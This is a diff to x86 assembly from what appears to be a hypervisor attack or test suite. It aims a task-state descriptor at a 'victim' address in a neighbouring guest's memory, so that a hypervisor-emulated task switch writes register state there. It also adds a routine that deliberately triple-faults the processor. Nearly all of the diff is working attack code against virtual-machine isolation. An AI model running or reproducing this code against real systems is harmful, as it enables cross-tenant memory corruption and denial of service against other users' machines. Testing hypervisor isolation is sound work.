@@ -1,5 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /* Attacks out of other modes than 64-bit, and handlers that never end. */
+#include "attacks.h"
+
 #define SELECTOR_CODE_32 0x28
 #define SELECTOR_DATA    0x10
 #define LOW              0x8000 /* LOW_CODE in endings.c: where the low_ programs run */
@@ -10,6 +12,10 @@
 #define EFLAGS_AC        0x40000
 #define MSR_EFER         0xC0000080
 #define EFER_LME         0x100
+#define VICTIM           (HOSTILE_VICTIM_HOST + HOSTILE_VICTIM_OFFSET)
+#define VICTIM_LOW       (VICTIM & 0xFFFF)
+#define VICTIM_MIDDLE    (VICTIM >> 16 & 0xFF)
+#define VICTIM_HIGH      (VICTIM >> 24)
 
 	.text
 	.code64
@@ -64,7 +70,10 @@ real_gdt_pointer:
 	.long	LOW + real_gdt - low_real_mode
 low_real_mode_end:
 
-/* A far jump to a task gate's task: the processor leaves task switches to the hypervisor. */
+/*
+ * A far jump to another task, whose switch the processor leaves to the hypervisor. The task that is left
+ * has its state in the neighbour's memory: whoever makes the switch would write there.
+ */
 	.code32
 	.globl	low_task_switch, low_task_switch_end
 low_task_switch:
@@ -77,12 +86,46 @@ task_gdt:
 	.quad	0
 	.quad	0x00CF9B000000FFFF
 	.quad	0x00CF93000000FFFF
-	.quad	0x0000890070000067 /* task state at 0x7000 */
+	.short	0x67, VICTIM_LOW /* task state in the neighbour's memory */
+	.byte	VICTIM_MIDDLE, 0x89, 0, VICTIM_HIGH
 	.quad	0x0000890071000067 /* and at 0x7100 */
 task_gdt_pointer:
 	.short	task_gdt_pointer - task_gdt - 1
 	.long	LOW + task_gdt - low_task_switch
 low_task_switch_end:
+
+/*
+ * A far jump to a task without a code segment: #TS in the new task (SDM 3.8.3, table 8-1), which is a
+ * triple fault without an IDT.
+ */
+	.globl	low_task_fault, low_task_fault_end
+low_task_fault:
+	lgdt	LOW + fault_gdt_pointer - low_task_fault
+	lidt	LOW + fault_no_idt - low_task_fault
+	movl	$0x7100, %edi
+	movl	$(0x68 / 4), %ecx
+	xorl	%eax, %eax
+	cld
+	rep stosl
+	movl	$0x18, %eax
+	ltr	%ax
+	ljmp	$0x20, $0
+1:	hlt
+	jmp	1b
+	.balign	8
+fault_gdt:
+	.quad	0
+	.quad	0x00CF9B000000FFFF
+	.quad	0x00CF93000000FFFF
+	.quad	0x0000890070000067 /* task state at 0x7000 */
+	.quad	0x0000890071000067 /* and at 0x7100 */
+fault_gdt_pointer:
+	.short	fault_gdt_pointer - fault_gdt - 1
+	.long	LOW + fault_gdt - low_task_fault
+fault_no_idt:
+	.short	0
+	.long	0
+low_task_fault_end:
 
 /*
  * PAE paging with page-directory-pointer entries that name an address beyond the processor's. CR0.CD
